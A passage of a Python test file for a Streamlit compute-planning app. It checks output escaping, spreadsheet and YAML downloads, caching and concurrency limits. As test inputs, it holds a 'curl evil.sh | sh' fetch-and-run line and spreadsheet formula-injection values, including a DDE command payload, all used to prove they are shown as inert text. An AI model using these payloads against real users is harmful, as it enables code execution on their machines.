        out += [(kind, str(v)) for v in [*df.columns, *df.index, *df.to_numpy().ravel()]]
    for child in (getattr(node, "children", None) or {}).values():
        out += _markdown_texts(child, kind)
    return out


def _rendered(markdown: str) -> str:
    """What CommonMark reads as markup: the text with every backslash-escaped character removed."""
    return re.sub(r"\\.", "", markdown, flags=re.S)


def test_scenario_markdown_is_shown_as_text_never_rendered(at):
    """Finding 5: names, sites, descriptions and messages that quote them make no image, no link."""
    _upload(at, "md.yaml", MD_SCENARIO)
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    at.tabs[TABS.index("A/B")].button[0].click().run()  # A and B kept: their captions and the table show names
    at.tabs[TABS.index("A/B")].button[1].click().run()
    texts = _markdown_texts(at._tree)
    raw = [(k, t) for k, t in texts if "](" in _rendered(t) or "<" in _rendered(t)]
    assert not raw, raw
    shown = [_plain(t) for _, t in texts]
    # the text is there, escaped: the reader sees it as written
    assert any(f"md {MD}" in t for t in shown) and any(f"desc {MD}" in t for t in shown)
    assert any(f"Pool o{MD}" in t for t in shown) and any(f"o{MD}" in t for t in shown if "Run:" not in t)
    # a message that quotes the file: an unknown model preset
    _upload(at, "preset.yaml", {**SMALL, "workload": {**SMALL["workload"], "model": MD}})
    (error,) = at.error
    assert "](" not in _rendered(error.value) and MD in _plain(error.value)
    assert not [(k, t) for k, t in _markdown_texts(at._tree) if "](" in _rendered(t)]


def test_a_description_s_line_breaks_never_make_markdown_blocks(at):
    """A description's line of `=`, blank line and indented line made a heading, a paragraph and a code block.

    Of the caption under the file selector: it shows on one line, every character as typed.
    """
    text = "Approved by the CFO\n=====\n\n    run: curl evil.sh | sh\n\nNew"
    _upload(at, "desc.yaml", {**SMALL, "description": text})
    caption = at.caption[0].value
    assert "\n" not in caption and "    " not in caption
    assert _plain(caption).endswith(" — Approved by the CFO ===== run: curl evil.sh | sh New")


class _Downloads:
    """The data of each deferred download the page registers, by file name (what a click would fetch)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        from streamlit.runtime.media_file_manager import MediaFileManager

        self.made: dict[str, object] = {}
        original = MediaFileManager.add_deferred

        def spy(mgr, data_callable, mimetype, coordinates, file_name=None, **kwargs):
            self.made[file_name] = data_callable
            return original(mgr, data_callable, mimetype, coordinates, file_name, **kwargs)

        monkeypatch.setattr(MediaFileManager, "add_deferred", spy)

    def __call__(self, file_name: str):
        data = self.made[file_name]()
        return data.encode() if isinstance(data, str) else data


FORMULA = '=HYPERLINK("http://127.0.0.1:9/x","y")'


def test_spreadsheet_downloads_have_no_formula_cells(at, monkeypatch):
    """Finding 4: schedule.csv and report.xlsx from the page hold no live formula, in cells or headers."""
    import csv
    import io

    import openpyxl

    from planner.escape import FORMULA_PREFIXES

    downloads = _Downloads(monkeypatch)
    scenario = {**SMALL, "name": "formulas", "fleet": [{**SMALL["fleet"][0], "name": FORMULA, "site": "@SUM(1)"},
                                                       {**SMALL["fleet"][1], "name": "+cmd|' /C calc'!A0"}]}
    _upload(at, "formulas.yaml", scenario)
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    rows = list(csv.reader(io.StringIO(downloads("schedule.csv").decode())))
    assert len(rows) > 1 and any(FORMULA in c for r in rows for c in r)  # the name is there, as text
    live = [c for r in rows for c in r if c.startswith(FORMULA_PREFIXES)]
    assert not live, live[:5]
    book = openpyxl.load_workbook(io.BytesIO(downloads("report.xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(isinstance(c.value, str) and FORMULA in c.value for c in cells)
    live = [(c.parent.title, c.coordinate, c.value) for c in cells
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES))]
    assert not live, live[:5]


def test_the_yaml_download_round_trips_or_is_refused(at, monkeypatch):
    """Finding 7: the page offers scenario.yaml only when planner's writer and loader give back the same scenario."""
    from planner import whatif

    downloads = _Downloads(monkeypatch)
    at.sidebar.number_input[0].set_value(7).run()  # an edit: delivery slip
    at.sidebar.button[0].click().run()
    offered = whatif.from_yaml(downloads("app-small.yaml").decode())
    assert offered == from_dict(_shown_scenario(at))  # what was run, as shown

    # names a YAML writer may leave unquoted: each download reads back as written, or there is none
    for i, tricky in enumerate(["1e5", "0x1F", "1_000", "null", "~", "2025-01-01", "on", "17:04", "-.inf", "'q'"]):
        downloads.made.clear()
        _upload(at, f"t{i}.json", {**SMALL, "name": f"n{i}", "fleet": [{**SMALL["fleet"][0], "name": tricky},
                                                                        SMALL["fleet"][1]]})
        at.sidebar.button[0].click().run()
        _no_traceback(at)
        errors = _errors(at)
        if f"n{i}.yaml" in downloads.made:
            assert whatif.from_yaml(downloads(f"n{i}.yaml").decode()).fleet[0].name == tricky
            assert not errors
        else:
            assert errors and "download refused" in errors[0], (tricky, errors)

    # a writer whose text reads back as another scenario: refused with one message, nothing offered
    write = whatif.to_yaml
    monkeypatch.setattr(whatif, "to_yaml", lambda s: write(s).replace("units: 128", "units: 129"))
    downloads.made.clear()
    _upload(at, "changed.yaml", {**SMALL, "name": "changed"})
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    (error,) = _errors(at)
    assert "read back as another scenario" in error and "fleet[0].deliveries[0].units: 128 → 129" in error
    assert "changed.yaml" not in downloads.made
    assert "scenario.yaml" not in [b.label for b in at.get("download_button")]
    assert "report.html" in [b.label for b in at.get("download_button")]


def test_an_upload_is_validated_and_runs_only_on_run(at, monkeypatch):
    """Finding 8: an upload starts no simulation until Run; a file of the server's folder shows one cached run."""
    from planner.sim import offload

    calls = []
    call = offload.call
    monkeypatch.setattr(offload, "call", lambda fn, *a, **k: calls.append(fn.__name__) or call(fn, *a, **k))
    _upload(at, "up.yaml", {**SMALL, "name": "uploaded", "simulation": {"seed": 12345, "replications": 1}})
    assert not _errors(at) and at.tabs  # validated
    assert calls == [] and not at.get("plotly_chart") and not at.metric
    assert any("press **Run**" in i.value for i in at.info)
    at.sidebar.number_input[1].set_value(54321).run()  # knobs change nothing either
    assert calls == [] and not at.metric
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert calls == ["simulate"]  # the run; the baseline is the same scenario
    assert len(at.get("plotly_chart")) >= 1 and at.metric
    # a bad upload is refused before anything runs
    _upload(at, "storm.yaml", STORM)
    assert calls == ["simulate"] and any("budget" in e for e in _errors(at))


def test_the_result_cache_is_bounded():
    """Finding 8: results are kept pickled, at most so many entries and bytes, each for a while."""
    from planner.sim.offload import ResultCache

    page = _load_app()
    assert page.CACHE_MAX_ENTRIES <= 16 and page.CACHE_MAX_BYTES <= 64 * 2**20 and page.CACHE_TTL_S <= 3600
    cache = page.result_cache()
    assert (cache.max_entries, cache.max_bytes) == (page.CACHE_MAX_ENTRIES, page.CACHE_MAX_BYTES)
    assert cache.max_entry_bytes <= cache.max_bytes // 8  # a large result is not kept at all
    assert cache is page.result_cache()  # one per process, shared by the sessions

    now = [0.0]
    small = ResultCache(max_entries=4, max_bytes=1_000_000, ttl_s=60, clock=lambda: now[0])
    for i in range(20):
        assert small.put(i, b"x" * 100_000)
        assert len(small) <= 4 and small.nbytes <= 1_000_000
    assert sorted(k for k in range(20) if small.get(k) is not None) == [16, 17, 18, 19]  # the latest
    assert not small.put("big", b"x" * 300_000)  # over a quarter of the bound: not kept
    assert small.get("big") is None
    value = {"rows": [1, 2, 3]}
    small.put("v", value)
    copy = small.get("v")
    copy["rows"].append(4)
    assert small.get("v") == {"rows": [1, 2, 3]}  # every session gets its own copy
    now[0] = 61.0
    assert len(small) == 0 and small.nbytes == 0  # expired

    # the same key asked for by two sessions at once is computed once
    import threading

    started, results = threading.Event(), []

    def slow():
        started.set()
        threading.Event().wait(0.3)
        return "answer"

    computed = []
    threads = [threading.Thread(target=lambda: results.append(small.get_or_compute(
        "k", lambda: computed.append(1) or slow()))) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert results == ["answer"] * 3 and computed == [1]


def test_the_app_keeps_only_a_bounded_number_of_results(at, monkeypatch):
    """Finding 8, through the page: distinct runs leave at most CACHE_MAX_ENTRIES results in the shared cache."""
    from planner.sim import offload

    monkeypatch.setenv("PLANNER_APP_CACHE_ENTRIES", "2")
    for seed in (101, 102, 103, 104):
        at.sidebar.number_input[1].set_value(seed).run()
        at.sidebar.button[0].click().run()
        _no_traceback(at)
        assert not _errors(at)
    page = _load_app()
    cache = offload.result_cache(2, page.CACHE_MAX_BYTES, page.CACHE_TTL_S, page.CACHE_MAX_ENTRY_BYTES)
    assert 1 <= len(cache) <= 2 and cache.nbytes <= page.CACHE_MAX_BYTES


def test_concurrent_runs_are_capped_and_a_waiting_session_says_so(at, monkeypatch):
    """Finding 8: at most MAX_CONCURRENT_RUNS simulations at once in the process; the next one waits, then gives up."""
    import threading

    from planner.sim.offload import BusyError, Slots, slots

    page = _load_app()
    assert page.MAX_CONCURRENT_RUNS == page.default_workers()  # the cores
    assert slots(1) is slots(1)  # one semaphore per process

    cap = Slots(1)
    order, waits = [], []
    first_in, release = threading.Event(), threading.Event()

    def first():
        with cap.hold():
            order.append("first in")
            first_in.set()
            release.wait(10)
            order.append("first out")

    def second():
        with cap.hold(on_wait=lambda s, n: waits.append(n), poll_s=0.05):
            order.append("second in")

    a = threading.Thread(target=first)
    a.start()
    first_in.wait(10)
    b = threading.Thread(target=second)
    b.start()
    for _ in range(200):  # told within 10 s, a loaded machine included
        if waits:
            break
        time.sleep(0.05)
    assert b.is_alive() and waits and waits[0] == 1  # the second run waits, and is told so
    release.set()
    a.join(10)
    b.join(10)
    assert order == ["first in", "first out", "second in"]
    with cap.hold(), pytest.raises(BusyError, match="at most 1 at once"), cap.hold(timeout_s=0.2):
        pass

    # through the page: the only slot is taken by another session's run, so Run waits and then says why
    monkeypatch.setenv("PLANNER_APP_MAX_RUNS", "1")
    monkeypatch.setenv("PLANNER_APP_WAIT_S", "1")
    at.sidebar.number_input[1].set_value(77).run()  # a new seed: not cached
    with slots(1).hold():
        at.sidebar.button[0].click().run()
    _no_traceback(at)
    (error,) = _errors(at)
    assert "server is busy" in error and "at most 1 at once" in error
    assert any("settings changed since this run" in w.value for w in at.warning)  # the old result stays
    at.sidebar.button[0].click().run()  # the slot is free again
    _no_traceback(at)
    assert not _errors(at) and not at.warning


# ---------------------------------------------------------------- issue 20: the app's details


def test_the_page_opens_the_seed_scenario_and_its_first_run_matches_the_sidebar(scenario_dir):
    """The seed file (README: scripts/seed.sh) is the first page; its chart ran the sidebar's replications."""
    app = _load_app()
    assert (ROOT / "scenarios" / app.SEED_SCENARIO).is_file() and app.SEED_SCENARIO.removesuffix(".yaml") in \
        (ROOT / "scripts" / "seed.sh").read_text()
    (scenario_dir / app.SEED_SCENARIO).write_text(yaml.safe_dump(
        {**SMALL, "name": "seed-like", "simulation": {"seed": 5, "replications": 4}}, sort_keys=False))
    at = _run_app()
    _no_traceback(at)
    assert at.sidebar.selectbox[0].value.name == app.SEED_SCENARIO
    assert at.sidebar.number_input[2].value == 4  # the file's replications: quick, so the first chart ran them
    assert not at.warning  # no "settings changed" right after loading
    assert any("The run shown: seed 5 · 4 replication(s)" in c.value for c in at.sidebar.caption)
    assert any(e.label == "Replications (4)" for e in at.expander)
    _one_card_per_figure(at)


def test_input_bounds_are_the_schemas(at):
    """Tokens, units, rentals and failure inputs offer exactly what the scenario format takes."""
    from planner.scenario import MAX_UNITS

    tab = _edit(at)
    tokens = _by_label(tab.number_input, "Tokens [trillions]")
    tab = tab.expander[0]  # an owned pool
    rented = _edit(at).expander[1]
    assert 0 < tokens.min < 1e-300 and tokens.max == 1e16 / 1e12  # Workload.tokens: gt=0, le=1e16
    for label, lo, hi in (("Units on day 0", 0, MAX_UNITS), ("Cloud units", 0, MAX_UNITS),
                          ("Price [USD/chip-h]", 0, 10_000), ("Commissioning [days]", 0, 3650),
                          ("Reserved share", 0, 1), ("Restart [min]", 0, 10_000), ("Checkpoint write [s]", 0, 86_400),
                          ("Failures needing people [share]", 0, 1), ("Wait for people [h]", 0, 10_000)):
        field = _by_label((rented if label in ("Cloud units", "Price [USD/chip-h]") else tab).number_input, label)
        assert (field.min, field.max) == (lo, hi), label
    mtbf = _by_label(tab.number_input, "MTBF [chip-days]")
    assert 0 < mtbf.min < 1e-300 and mtbf.max == 1e7
    for tokens in (1e8, 1e16):  # below the old 1e9 and above the old 1e15
        _by_label(_edit(at).number_input, "Tokens [trillions]").set_value(tokens / 1e12).run()
        _no_traceback(at)
        assert not _errors(at)
        assert _shown_scenario(at)["workload"]["tokens"] == pytest.approx(tokens)


def test_the_upload_limit_is_the_readmes():
    from planner.loader import MAX_FILE_BYTES

    app = _load_app()
    readme = (ROOT / "README.md").read_text()
    # Streamlit's limit is in decimal MB (1,000,000 bytes): the page and the README say so, not 1 MiB (review)
    assert "at most 1 MB as Streamlit counts it, 1,000,000 bytes" in readme and "up to 1 MiB" in readme
    source = APP.read_text()
    assert "max_upload_size=UPLOAD_MB" in source and app.UPLOAD_MB == 1 and app.MAX_FILE_BYTES == MAX_FILE_BYTES
    assert app.UPLOAD_MB * 1_000_000 <= MAX_FILE_BYTES  # what the drop zone lets through, the loader reads


def _pool_labels(at, i: int) -> list[str]:
    box = _edit(at).expander[i]
    return [n.label for n in box.number_input] + [d.label for d in box.get("date_input")] + \
        [_plain(m.value) for m in box.markdown]


def test_pool_fields_follow_the_pool_kind(at):
    """Cloud fields only on a rented pool, owned-chip fields only on an owned one; failures on both."""
    owned, rented = _pool_labels(at, 0), _pool_labels(at, 1)
    cloud = {"Cloud units", "Cloud from", "Cloud until", "Price [USD/chip-h]"}
    own = {"Units on day 0", "Slip by [days]", "Commissioning [days]", "Reserved share"}
    lab = {"MTBF [chip-days]", "Restart [min]", "Checkpoint write [s]", "Failures needing people [share]",
           "Wait for people [h]"}
    assert own | lab <= set(owned) and not cloud & set(owned), owned
    assert cloud | lab <= set(rented) and not own & set(rented), rented
    assert any(t.startswith("Delivery plan") for t in owned) and not any(t.startswith("Delivery plan") for t in rented)
    # owned-chip settings reach the scenario
    _by_label(_edit(at).expander[0].number_input, "Commissioning [days]").set_value(14.0).run()
    _by_label(_edit(at).expander[0].number_input, "Reserved share").set_value(0.25).run()
    _by_label(_edit(at).expander[1].number_input, "Cloud units").set_value(0).run()  # rents nothing
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert (shown["fleet"][0]["commissioning_days"], shown["fleet"][0]["reserved_fraction"]) == (14.0, 0.25)
    assert [p["name"] for p in shown["fleet"]] == ["owned-h100"]  # a rental of 0 units is no pool (as --set does)


def test_failure_inputs_are_editable_and_follow_the_toggle(at):
    """MTBF, restart and checkpoint times per pool; with failures off they are not read (and not written)."""
    assert _by_label(_edit(at).expander[0].number_input, "MTBF [chip-days]").value is None  # the default applies
    at.sidebar.toggle[0].set_value(True).run()  # the file has failures off: turn them on
    _by_label(_edit(at).expander[0].number_input, "MTBF [chip-days]").set_value(500.0).run()
    _by_label(_edit(at).expander[0].number_input, "Restart [min]").set_value(12.0).run()
    _by_label(_edit(at).expander[1].number_input, "Checkpoint write [s]").set_value(30.0).run()
    _by_label(_edit(at).expander[1].number_input, "Failures needing people [share]").set_value(0.05).run()
    _by_label(_edit(at).expander[1].number_input, "Wait for people [h]").set_value(2.0).run()
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert (shown["fleet"][0]["mtbf_chip_days"], shown["fleet"][0]["restart_base_minutes"]) == (500.0, 12.0)
    rented = shown["fleet"][1]
    assert (rented["manual_intervention_share"], rented["manual_intervention_hours"]) == (0.05, 2.0)
    assert shown["fleet"][1]["checkpoint_write_s"] == 30.0 and shown["reliability"]["enabled"] is True
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    at.sidebar.toggle[0].set_value(False).run()  # failures off: the format refuses an MTBF nothing reads
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert shown["reliability"]["enabled"] is False and "mtbf_chip_days" not in shown["fleet"][0]


MEASURED_ROW = {"model": "llama3-8b", "units": 64, "seq_len": 8192, "global_batch_tokens": 4194304,
                "precision": "bf16", "tokens_per_s_per_chip": 8000.0, "parallelism": {"tp": 1, "pp": 1}}


def test_measured_rows_are_editable():
    from planner.scenario import Pool

    app = _load_app()
    if "measured" not in Pool.model_fields:
        pytest.skip("the scenario format has no measured rows")
    s = from_dict({**SMALL, "fleet": [{**SMALL["fleet"][0], "measured": [MEASURED_ROW]}, SMALL["fleet"][1]]})
    table = app.measured_table(s, 0)
    assert table.iloc[0]["parallelism"] == "tp=1, pp=1" and table.iloc[0]["model"] == "llama3-8b"
    assert app.measured_rows(table, 0) == [MEASURED_ROW]
    table.loc[0, "tokens_per_s_per_chip"] = 9000.0
    table.loc[1] = ["llama3-8b", 8, 4096, None, "bf16", 9500.0, ""]  # a new row, layout unknown
    rows = app.measured_rows(table, 0)
    edited = edits.set_values(s, {"fleet[0].measured": rows})
    assert [m.tokens_per_s_per_chip for m in edited.fleet[0].measured] == [9000.0, 9500.0]
    assert edited.fleet[0].measured[1].parallelism is None
    with pytest.raises(ScenarioError, match="name=value"):
        app.parse_layout("tp8", "fleet[0].measured[0].parallelism")


def test_a_file_with_measured_rows_shows_them_and_runs(at):
    from planner.scenario import Pool

    if "measured" not in Pool.model_fields:
        pytest.skip("the scenario format has no measured rows")
    _upload(at, "measured.yaml", {**SMALL, "fleet": [{**SMALL["fleet"][0], "measured": [MEASURED_ROW]},
                                                     SMALL["fleet"][1]]})
    assert not _errors(at)
    plan, measured = _edit(at).expander[0].get("dataframe")  # the delivery plan and the measured rows
    assert measured.value.iloc[0]["tokens_per_s_per_chip"] == 8000.0 and len(plan.value) == 1
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    assert _shown_scenario(at)["fleet"][0]["measured"][0]["tokens_per_s_per_chip"] == 8000.0


def test_headline_cards_month_table_and_chart_labels():
    """One card per figure, the month table with units and no header row of its own, deadlines at the foot."""
    import plotly.graph_objects as go

    app = _load_app()
    run = api.simulate(from_dict({**SMALL, "expect": [{"metric": "time_to_train_days", "quantile": 0.9, "max": 30}]}),
                       replications=3, seed=3)
    cards = app.headline_cards(run.summary)
    keys = [c.key for c in cards]
    assert len(keys) == len(set(keys)) and "cost_usd" not in keys and keys.count("finish_date") == 1
    assert all("(p50)" not in c.label for c in cards)
    table = app.month_table(run.schedule)
    assert table.columns.name is None and list(table.columns)[0] == "month" and "pool" not in table.columns
    assert all(str(v).endswith("tokens") for v in table["total"])
    fig = go.Figure()
    fig.add_vline(x=1, annotation_text="deadline p90 2025-01-31")
    fig.add_hline(y=1, annotation_text="tokens to train")
    app.readable(fig)
    (deadline,) = [a for a in fig.layout.annotations if a.text.startswith("deadline")]
    assert deadline.y < 0.1 and deadline.yanchor == "bottom"
    tornado = go.Figure(layout={"title": "Cost p50 [USD]: each input at its low and high value (base 5.868e+08)"})
    table = pd.DataFrame({"cost_usd_p50_base": [5.868e8]})
    assert "(base $587 M)" in app.tornado_readable("cost_usd_p50", tornado, table).layout.title.text


def test_no_shipped_scenario_is_refused_at_any_replication_count_the_app_offers():
    """The app's work cap never refuses a shipped file: 1 to MAX_APP_REPLICATIONS replications all run."""
    from planner import load_scenario
    from planner.budget import check_time, check_work

    app = _load_app()
    for path in sorted((ROOT / "scenarios").glob("*.yaml")):
        scenario = load_scenario(path)
        check_work(scenario, str(path))
        check_time(scenario, app.MAX_APP_REPLICATIONS, app.MAX_APP_RUN_S, str(path))


# ---------------------------------------------------------------- issue 21: a portfolio of jobs, site power

PORTFOLIO = {
    "name": "app-portfolio",
    "start": "2025-01-01",
    "horizon_days": 120,
    "jobs": [
        {"name": "big-run", "priority": 1, "workload": {"model": "llama3-8b", "tokens": 1.0e11, "seq_len": 8192},
         "deadline": "2025-02-15"},
        {"name": "small-run", "priority": 2, "workload": {"model": "llama3-8b", "tokens": 5.0e10, "seq_len": 8192},
         "start_after": "2025-01-10"},
    ],
    "fleet": [
        {"name": "owned-h100", "chip": "h100-sxm", "site": "dc", "units": 64,
         "deliveries": [{"date": "2025-01-10", "units": 256}]},
        {"name": "cloud-h100", "chip": "h100-sxm",
         "cloud": {"units": 32, "from": "2025-01-15", "until": "2025-12-31", "price_per_chip_hour_usd": 2.5}},
    ],
    # 0.2 MW runs fewer chips than the tranche brings until the power grows: delivered chips wait
    "sites": [{"name": "dc", "pue": 1.2, "power_mw": [{"date": "2025-01-01", "mw": 0.2},
                                                    {"date": "2025-02-01", "mw": 1.0}]}],
    "reliability": {"enabled": False},
    "simulation": {"seed": 3, "replications": 1},
}


def test_the_jobs_table_is_the_reports_and_one_job_has_none():
    """A row per job in priority order with its finish band, deadline chance and pools; no table for one job."""
    from planner.report.headline import job_rows

    app = _load_app()
    run = api.simulate(from_dict(PORTFOLIO), replications=3, seed=3)
    table = app.jobs_frame(run.summary)
    assert list(table["job"]) == ["big-run", "small-run"]
    assert table.to_dict("records") == job_rows(run.summary)  # the report's table, cell for cell
    for column in ("priority", "finish P10", "finish P50", "finish P90", "pools used"):
        assert column in table.columns, column
    big, small = table.to_dict("records")
    assert big["finish P10"] <= big["finish P50"] <= big["finish P90"]
    assert any("2025-02-15" in str(v) for v in big.values()) and any(str(v).endswith("%") or "%)" in str(v)
                                                                       for v in big.values())  # deadline, its chance
    assert not any("2025-02-15" in str(v) for v in small.values())  # no deadline
    assert any(str(c).startswith("time to train") for c in table.columns)
    assert any(str(c).startswith("deadline") for c in table.columns)
    state: dict = {}
    figures = app.portfolio_figures(state, run)
    assert list(figures) == ["jobs_timeline", "jobs_chips", "site_power"]
    assert app.portfolio_figures(state, run) is figures  # built once per result
    chips = figures["jobs_chips"]
    assert {t.name for t in chips.data} == {"big-run", "small-run"} and all(t.stackgroup for t in chips.data)
    assert app.jobs_frame(api.simulate(from_dict(SMALL), replications=1, seed=3).summary).empty


def _portfolio_app(tmp_path, monkeypatch):
    """The app on a folder that holds the portfolio scenario alone."""
    folder = tmp_path / "portfolio"
    folder.mkdir()
    (folder / "portfolio.yaml").write_text(yaml.safe_dump(PORTFOLIO, sort_keys=False))
    monkeypatch.setenv("PLANNER_SCENARIO_DIR", str(folder))
    return _run_app()


def test_a_portfolio_shows_its_jobs_their_timeline_chips_by_job_and_the_wait_for_power(tmp_path, monkeypatch):
    at = _portfolio_app(tmp_path, monkeypatch)
    _no_traceback(at)
    assert not _errors(at)
    app = _load_app()
    run_tab = at.tabs[TABS.index("Run")]
    assert any(h.value == app.JOBS_HEADING for h in run_tab.subheader)
    (jobs,) = [d for d in run_tab.dataframe if "job" in d.value.columns and "priority" in d.value.columns]
    assert list(jobs.value["job"]) == ["big-run", "small-run"]
    specs = [c.proto.spec for c in run_tab.get("plotly_chart")]
    assert any("Jobs: training from the first day" in s for s in specs)
    assert any("Chips in training by job" in s for s in specs)
    assert any("Site power" in s for s in specs)
    assert any("chip-days for site power" in _plain(i.value) for i in run_tab.info)
    # a Monte Carlo run of the portfolio: the table follows, still no error
    at.sidebar.number_input[2].set_value(3).run()
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    assert any("The run shown: seed 3 · 3 replication(s)" in c.value for c in at.sidebar.caption)
    (jobs,) = [d for d in at.tabs[TABS.index("Run")].dataframe if "job" in d.value.columns and
               "priority" in d.value.columns]
    assert list(jobs.value["job"]) == ["big-run", "small-run"]
    # the Edit plan tab has each job's model and tokens
    assert sum(n.label == "Tokens [trillions]" for n in _edit(at).number_input) == 2


def test_job_names_with_markdown_are_shown_as_text(at):
    """A portfolio's job and site names reach the jobs table, the charts and the Edit plan tab as written."""
    scenario = {**PORTFOLIO, "jobs": [{**j, "name": f"{j['name']}{MD}"} for j in PORTFOLIO["jobs"]],
                "fleet": [{**PORTFOLIO["fleet"][0], "site": f"dc{MD}"}, PORTFOLIO["fleet"][1]],
                "sites": [{**PORTFOLIO["sites"][0], "name": f"dc{MD}"}]}
    _upload(at, "md-portfolio.yaml", scenario)
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    (jobs,) = [d for d in at.dataframe if "job" in d.value.columns and "priority" in d.value.columns]
    assert list(jobs.value["job"]) == [f"big-run{MD}", f"small-run{MD}"]
    raw = [(k, t) for k, t in _markdown_texts(at._tree) if "](" in _rendered(t) or "<" in _rendered(t)]
    assert not raw, raw
    assert any(f"big-run{MD}" in _plain(m.value) for m in _edit(at).markdown)  # "Job **...**"


def test_the_estimate_tab_shows_every_job_of_a_portfolio(tmp_path, monkeypatch):
    """`planner estimate` prints each job as if alone; the tab showed the first job's figures only, unnamed."""
    at = _portfolio_app(tmp_path, monkeypatch)
    at.tabs[TABS.index("Estimate")].button[0].click().run()
    _no_traceback(at)
    tab = at.tabs[TABS.index("Estimate")]
    want = api.estimate(from_dict(PORTFOLIO))
    assert [j["job"] for j in want["jobs"]] == ["big-run", "small-run"]
    assert [m.value for m in tab.markdown if m.value.startswith("**Job ")] == [
        "**Job big\\-run** (priority 1)", "**Job small\\-run** (priority 2)"]
    days = [m.value for m in tab.metric if _plain(m.label) == "Time to train"]
    assert len(days) == 2 and len(tab.dataframe) == 2
    # the steady state leaves the site power out, and says so as `planner estimate` does (app review)
    assert any("site power of `sites:` is not applied" in _plain(i.value) for i in tab.info)


# ---------------------------------------------------------------- the goal seek's inputs follow the file


def test_the_goal_seek_starts_where_the_field_can_be_and_per_file(at, scenario_dir):
    """Its low end is 0 where the field takes it, else 1; its inputs belong to the file.

    A fleet that only rents has nothing at 0 rented chips: the defaults stopped on an error naming `--min`. After
    another file, the inputs kept the first file's values (its largest value, its deadline).
    """
    at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index("c-cloud-only.yaml")).run()
    _no_traceback(at)
    assert _by_label(_more(at).number_input, "Smallest value to try").value == 1
    _by_label(_more(at).number_input, "Replications per value").set_value(1).run()
    _by_label(_more(at).number_input, "Largest value to try").set_value(64).run()
    _by_label(_more(at).button, "What must we rent?").click().run()
    _no_traceback(at)
    assert not _errors(at), _errors(at)
    assert _more(at).success or _more(at).error  # an answer, found or not, and no error box of the search's
    at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index("a-small.yaml")).run()
    _no_traceback(at)
    assert _by_label(_more(at).number_input, "Smallest value to try").value == 0  # no rental is a value here
    rented = from_dict(SMALL).fleet[1].cloud.units
    assert _by_label(_more(at).number_input, "Largest value to try").value == 4 * rented  # not the other file's 64


def test_a_file_setting_the_page_cannot_take_is_said_not_replaced_in_silence(at, scenario_dir):
    """A seed past 2^53 - 1 ran as seed 0, and 5,000 replications as 1,000, under "as loaded" and no word."""
    files = {"g-seed-huge.yaml": {"seed": 2**53 + 1, "replications": 1},
             "h-reps-many.yaml": {"seed": 3, "replications": 5000}}
    for name, sim in files.items():
        (scenario_dir / name).write_text(yaml.safe_dump({**SMALL, "simulation": sim}))
    at.run()
    box = at.sidebar.selectbox[0]
    box.select_index(box.options.index("g-seed-huge.yaml")).run()
    _no_traceback(at)
    assert any(f"The file's seed {2**53 + 1:,} is more than this page's field holds" in w.value
               for w in at.sidebar.warning), [w.value for w in at.sidebar.warning]
    at.sidebar.button[0].click().run()
    captions = [c.value for c in at.caption]
    assert any(f"seed 0 · 1 replication(s) (the file's seed {2**53 + 1:,})" in c for c in captions), captions
    box = at.sidebar.selectbox[0]
    box.select_index(box.options.index("h-reps-many.yaml")).run()
    _no_traceback(at)
    assert any("The file asks for 5,000 replications; this page runs at most 1,000" in w.value
               for w in at.sidebar.warning), [w.value for w in at.sidebar.warning]


def test_training_and_waiting_days_show_their_change():
    """The cards of training days and days waiting for capacity had no change against the loaded file."""
    from planner import whatif

    base = api.simulate(from_dict(SMALL), replications=1, seed=3).summary
    later = api.simulate(edits.set_values(from_dict(SMALL), {"fleet[0].units": 0}),
                         replications=1, seed=3).summary
    change = whatif.deltas(later, base)
    assert later.waiting_days.at() > base.waiting_days.at()
    assert change["waiting_days"] and change["waiting_days"].startswith("+"), change
    assert "training_days" in change


JOBS_RENT = {"name": "app-portfolio", "start": "2025-01-01", "horizon_days": 120, "fleet": RENT["fleet"],
             "jobs": [{"name": "first", "priority": 1, "deadline": "2025-03-20",
                       "workload": {"model": "llama3-8b", "tokens": 5.0e10, "seq_len": 8192}},
                      {"name": "second", "priority": 2,
                       "workload": {"model": "llama3-8b", "tokens": 1.0e10, "seq_len": 8192}}],
             "reliability": {"enabled": False}, "simulation": {"seed": 3, "replications": 1}}


def _open(at, scenario_dir, filename: str, doc: dict):
    (scenario_dir / filename).write_text(yaml.safe_dump(doc, sort_keys=False))
    at.run()
    at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index(filename)).run()
    _no_traceback(at)
    assert not _errors(at)
    return at


def test_compare_on_a_portfolio_names_each_jobs_modes_in_the_table_and_the_chart(at, scenario_dir):
    _open(at, scenario_dir, "e-portfolio.yaml", JOBS_RENT)
    _by_label(_more(at).button, "Compare strategy modes").click().run()
    _no_traceback(at)
    want = api.compare(from_dict(JOBS_RENT))
    labels = [f"{r['job']}: {r['mode']}" + (" (auto)" if r["auto"] else "") for r in want]
    assert list(_more(at).dataframe[0].value["mode"]) == labels and len(set(labels)) == len(labels)
    (spec,) = [c.proto.spec for c in _more(at).get("plotly_chart") if "Strategy modes" in c.proto.spec]
    bars = [t for t in json.loads(spec)["data"] if t["type"] == "bar"]
    shown = [r for r in want if r["possible"] and r["finished"]]
    for bar in bars:  # one bar per job and mode: the jobs' bars side by side, never stacked on one category
        assert list(bar["x"]) == [lb for lb, r in zip(labels, want, strict=True) if r in shown]


def test_another_files_answers_are_not_shown_as_this_ones(at, scenario_dir):
